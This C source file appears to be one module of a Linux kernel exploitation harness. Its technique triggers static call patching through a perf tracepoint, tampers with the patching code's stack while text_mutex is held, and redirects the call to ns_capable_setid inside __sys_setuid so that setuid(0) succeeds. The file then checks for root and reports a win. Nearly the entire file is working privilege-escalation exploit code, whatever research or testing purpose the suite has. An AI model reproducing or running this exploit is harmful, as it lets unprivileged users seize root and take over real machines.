// SPDX-License-Identifier: GPL-2.0-only
/*
 * A static call's sites are patched when a tracepoint gets its first user. Anybody may
 * count events of a tracepoint by perf, for his own process. Who patches waits for the
 * mutex of all who do, which is made to look held, and has on his stack meanwhile which
 * site it is, and what is to be called there. Both are changed: a call in setuid() is.
 */
#include <linux/perf_event.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <stdio.h>
#include <errno.h>
#include <unistd.h>

#include "attack.h"
#include "held.h"
#include "list.h"
#include "objects.h"

#ifdef __x86_64__
#define FUNCTION	"arch_static_call_transform"
#define LENGTH		0x9c
#define CALLER		"__sys_setuid"
#define CALLER_SIZE	0x100
#define CALLED		"ns_capable_setid"
#define YES		"always_delete_dentry"	/* returns 1 */
#define CALL		0xe8
#define CALL_SIZE	5
#define LAST_ID		4000
#define TRIES		12
#define PAUSE		20000
#define PATIENCE	200
#define TEXT_SIZE	(64UL << 20)

static struct {
	volatile int id, error;
} *opened;

static uint64_t site, called, text;

static int count_events(int id)
{
	struct perf_event_attr attr = {
		.type = PERF_TYPE_TRACEPOINT, .size = sizeof(attr), .config = id,
		.exclude_kernel = 1, .exclude_hv = 1,
	};

	return syscall(SYS_perf_event_open, &attr, 0, -1, -1, 0);
}

/* Of the next tracepoint that nobody has used yet. */
static void use_tracepoint(void)
{
	while (++opened->id < LAST_ID) {
		if (count_events(opened->id) >= 0)
			return;
		opened->error = errno;
	}
}

static uint64_t find_call(void)
{
	unsigned char code[CALLER_SIZE];
	uint64_t caller = ksymbol(CALLER), target = ksymbol(CALLED);
	int32_t rel;
	int i;

	if (!caller || !target || kread(caller, code, sizeof(code)))
		return 0;
	for (i = 0; i + CALL_SIZE <= CALLER_SIZE; i++) {
		memcpy(&rel, code + i + 1, sizeof(rel));
		if (code[i] == CALL && caller + i + CALL_SIZE + rel == target)
			return caller + i;
	}
	return 0;
}

static bool calls(uint64_t target)
{
	unsigned char code[CALL_SIZE];
	int32_t rel;

	kread(site, code, sizeof(code));
	memcpy(&rel, code + 1, sizeof(rel));
	return code[0] == CALL && site + CALL_SIZE + rel == target;
}

static bool is_text(uint64_t word)
{
	return word - text < TEXT_SIZE;
}

/*
 * What mutex_lock() pushes: what is called. Below it what its slow way pushes: the
 * mutex, whether by a jump, the site, the trampoline.
 */
static bool change_site(const struct held_change *change, uint64_t addr, const uint64_t *words)
{
	uint64_t mutex = ksymbol("text_mutex");
	int i;

	(void)change;
	if (words[-2] && !is_text(words[-2]))
		return false;
	for (i = -HELD_BELOW; i < -5; i++) {
		if (words[i] != mutex || (!words[i + 2] == !words[i + 3]) ||
		    !is_text(words[i + 2] | words[i + 3]))
			continue;
		kwrite64(addr - 2 * 8, called);
		kwrite64(addr + (i + 1) * 8, 0);
		kwrite64(addr + (i + 2) * 8, site);
		kwrite64(addr + (i + 3) * 8, 0);
		return true;
	}
	return false;
}

static bool is_over(const struct held_change *change)
{
	(void)change;
	return held_is_done();
}

static bool make_call(uint64_t target)
{
	const struct held_change change = { FUNCTION, LENGTH, change_site, is_over, NULL };
	struct held_lock lock = held_mutex();
	int i, n;

	called = target;
	for (i = 0; i < TRIES && !calls(target); i++) {
		held_act(&lock, &change);
		for (n = 0; n < PATIENCE && !held_is_done(); n++)
			usleep(PAUSE);
		fprintf(stderr, "# id %d, error %d, calls it: %d\n", opened->id, opened->error,
			calls(target));
		/* Who is refused is killed, maybe. */
		if (!held_is_done())
			break;
	}
	return calls(target);
}

enum outcome static_call_held(void)
{
	uint64_t yes = ksymbol(YES), before = ksymbol(CALLED);
	int uid = getuid(), err;

	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	opened = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	site = find_call();
	text = ksymbol("_text") ?: ksymbol("_stext");
	if (!site || !yes || !text)
		return broken("no such call: %d %d %d", !!site, !!yes, !!text);
	held_start(use_tracepoint);
	if (!make_call(yes)) {
		held_stop();
		return lost("the kernel patched its own sites only (tracepoint %d, error %d)",
			    opened->id, opened->error);
	}
	err = setuid(0);
	if (!make_call(before))
		fprintf(stderr, "# the text was not put back\n");
	held_stop();
	if (err || getuid())
		return lost("setuid(0) gave %d", err);
	return won("kernel text patched by a static call's way: setuid(0) by uid=%d gave uid=%d",
		   uid, getuid());
}
#else
enum outcome static_call_held(void)
{
	return skipped("x86-64 only");
}
#endif
